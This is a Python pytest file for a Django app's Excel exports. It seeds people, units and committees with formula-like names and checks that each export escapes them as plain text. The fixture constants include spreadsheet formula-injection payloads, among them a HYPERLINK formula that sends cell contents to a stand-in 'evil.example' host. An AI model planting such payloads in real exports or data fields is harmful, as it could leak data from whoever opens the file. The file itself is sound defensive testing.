"""Every spreadsheet export keeps formula-like text as text.

Names and texts beginning with ``= + - @`` (a person called
``=HYPERLINK(...)``, a unit called ``@SUM(1)…``) are put in every place an
export reads from; then each export is downloaded and every cell of every
sheet is checked: no formula, and no text a spreadsheet would start to
evaluate. A meta-test keeps the list complete: a new export route (``.xlsx``,
``export``, ``csv`` or ``download`` in its path or name) must be added here.
"""

import datetime
import io
from types import SimpleNamespace

import pytest
from django.db import transaction
from django.urls import URLPattern, URLResolver, get_resolver
from django.utils import timezone
from openpyxl import load_workbook

from evaluations import services as evaluations
from evaluations.models import Department
from evaluations.months import add_months
from orgs.models import (
    Committee,
    CommitteeKind,
    OrgKind,
    OrgNode,
    Person,
    SeatOrigin,
    UnitKind,
)
from orgs.services import org_node_create, seat_add
from tests.conftest import build_world, login
from tests.evaluations.conftest import run_month
from tests.support.conftest import make_worker
from volunteers import services as volunteers
from volunteers.models import VolunteerKind

PERSON = '=HYPERLINK("http://evil.example/?q="&A1,"点我")'
UNIT = '=HYPERLINK("http://evil.example")单位'
AGENCY = "@SUM(1)党群机关"
COMMITTEE = "+甲社区大党委"
EMPLOYER = "-2+3 劳务公司"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture(scope="module")
def hostile(django_db_setup, django_db_blocker):
    """The personas' street with formula-like names everywhere, once."""
    with django_db_blocker.unblock():
        atomic = transaction.atomic()
        atomic.__enter__()
        try:
            yield _build()
        finally:
            transaction.set_rollback(True)
            atomic.__exit__(None, None, None)


def _build():
    w = build_world()
    today = timezone.localdate()
    w.unit = org_node_create(
        kind=OrgKind.UNIT,
        name=UNIT,
        code="T-01-U090",
        parent=w.a,
        unit_kind=UnitKind.MERCHANT,
        headcount=6,
    )
    w.agency = org_node_create(
        kind=OrgKind.UNIT,
        name=AGENCY,
        code="T-01-U091",
        parent=w.a,
        unit_kind=UnitKind.AGENCY,
        headcount=30,
    )
    person = Person.objects.create(
        name=PERSON, phone="13900001111", street=w.street, community=w.a
    )
    # a big party committee seats secretaries of the community's party orgs
    OrgNode.objects.filter(pk=w.party_org_a.pk).update(secretary=person)
    w.committee = Committee.objects.create(
        kind=CommitteeKind.BIG_PARTY,
        org=w.a,
        street=w.street,
        community=w.a,
        name=COMMITTEE,
    )
    seat_add(
        user=w.street_admin,
        committee=w.committee,
        person=person,
        origin=SeatOrigin.RECOMMENDED,
        term_start=today,
    )
    volunteers.volunteer_register(
        user=w.secretary_a,
        community=w.a,
        person=person,
        kind=VolunteerKind.IN_SERVICE,
        employer_unit=w.unit,
    )
    make_worker(w.a, name=PERSON, employer=EMPLOYER)
    this_month = today.replace(day=1)
    for offset in (-3, -2, -1):
        month = add_months(this_month, offset)
        run_month(w.street, month, w.street_admin)
        evaluations.month_publish(user=w.street_admin, street=w.street, month=month)
    w.notice = evaluations.department_notice_create(
        user=w.street_admin,
        street=w.street,
        department=Department.MARKET,
        period_start=add_months(this_month, -3),
        period_end=add_months(this_month, -1),
    )
    w.year = add_months(this_month, -1).year
    w.today = today
    return w


def _exports(w):
    """Route name → (URL, whether hostile data must show up in it)."""
    t = w.today
    quarter = (t.month - 1) // 3 + 1
    return {
        "orgs:units_export": ("/orgs/units/export.xlsx", True),
        "orgs:people_export": ("/orgs/people/export.xlsx", True),
        "orgs:committee_export": (
            f"/orgs/committees/{w.committee.pk}/export.xlsx",
            True,
        ),
        "orgs:import_template": ("/orgs/import/template/units.xlsx", False),
        "volunteers:inservice_report_xlsx": (
            f"/volunteers/manage/in-service/export.xlsx?year={t.year}"
            f"&month={t.month}&unit={w.unit.pk}",
            True,
        ),
        "volunteers:service_card_xlsx": (
            f"/volunteers/manage/in-service/card/{w.unit.pk}/{t.year}/{quarter}.xlsx",
            True,
        ),
        "evaluations:notice_download": (
            f"/evaluations/notices/{w.notice.pk}/download/",
            True,
        ),
        "evaluations:annual_report_xlsx": (
            f"/evaluations/annual/{w.agency.pk}/{w.year}/xlsx/",
            True,
        ),
        "support:compliance_xlsx": ("/support/workers/compliance.xlsx", True),
        "support:notice_xlsx": (
            f"/support/notice.xlsx?start={t.year}-01-01&end={t.isoformat()}",
            True,
        ),
    }


EXPORT_NAMES = list(
    _exports(
        SimpleNamespace(
            today=datetime.date(2026, 1, 1),
            committee=SimpleNamespace(pk=1),
            unit=SimpleNamespace(pk=1),
            agency=SimpleNamespace(pk=1),
            notice=SimpleNamespace(pk=1),
            year=2025,
        )
    )
)


def _cells(content):
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


@pytest.mark.django_db
@pytest.mark.parametrize("name", EXPORT_NAMES)
def test_an_export_keeps_formula_like_text_as_text(hostile, name):
    url, carries_data = _exports(hostile)[name]
    response = login(hostile.street_admin).get(url)
    assert response.status_code == 200, (url, response.status_code)
    assert response["Content-Type"].startswith(XLSX)
    escaped = []
    for cell in _cells(response.content):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert not cell.value.startswith(FORMULA_STARTS), cell.value
            if cell.value.startswith("'") and cell.value[1:].startswith(FORMULA_STARTS):
                escaped.append(cell.value)
    if carries_data:
        # the hostile names reached this export (so the test can fail)
        assert escaped, f"{name}: no formula-like text in the export"


def _routes(patterns, prefix="", namespace=""):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            inner = pattern.namespace or namespace
            yield from _routes(
                pattern.url_patterns, prefix + str(pattern.pattern), inner
            )
        elif isinstance(pattern, URLPattern):
            yield f"{namespace}:{pattern.name}", prefix + str(pattern.pattern)


def test_every_export_route_is_checked_here():
    words = ("xlsx", "export", "csv", "download")
    found = {
        name
        for name, route in _routes(get_resolver().url_patterns)
        if any(word in (route + name).lower() for word in words)
        and not name.startswith("admin:")
    }
    assert found == set(EXPORT_NAMES)
